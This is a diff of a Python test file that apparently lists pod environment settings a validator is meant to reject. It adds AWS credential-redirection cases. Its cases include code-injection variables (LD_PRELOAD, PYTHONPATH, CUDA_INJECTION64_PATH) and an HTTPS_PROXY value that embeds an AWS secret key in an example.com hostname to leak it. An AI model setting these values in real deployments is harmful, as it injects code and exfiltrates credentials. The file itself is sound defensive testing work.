@@ -206,7 +206,9 @@ def mounted(path: str) -> Json:
         (POD, env(name="LD_PRELOAD", value="/mnt/a.so"), f"{POD}.env[0].name", "load other code"),
         (POD, env(name="PYTHONPATH", value="/mnt/a"), f"{POD}.env[0].name", "load other code"),
         (POD, env(name="CUDA_INJECTION64_PATH", value="/mnt/a.so"), f"{POD}.env[0].name", "load other code"),
-        (POD, env(name="NVIDIA_VISIBLE_DEVICES", value="all"), f"{POD}.env[0].name", "or devices"),
+        (POD, env(name="AWS_ENDPOINT_URL_STS", value="http://x"), f"{POD}.env[0].name", "send files away"),
+        (POD, env(name="AWS_WEB_IDENTITY_TOKEN_FILE", value="/x"), f"{POD}.env[0].name", "send files away"),
+        (POD, env(name="NVIDIA_VISIBLE_DEVICES", value="all"), f"{POD}.env[0].name", "get devices"),
         (
             POD,
             env(name="HTTPS_PROXY", value="http://$(ARTIFACTS_AWS_SECRET_ACCESS_KEY).example.com"),
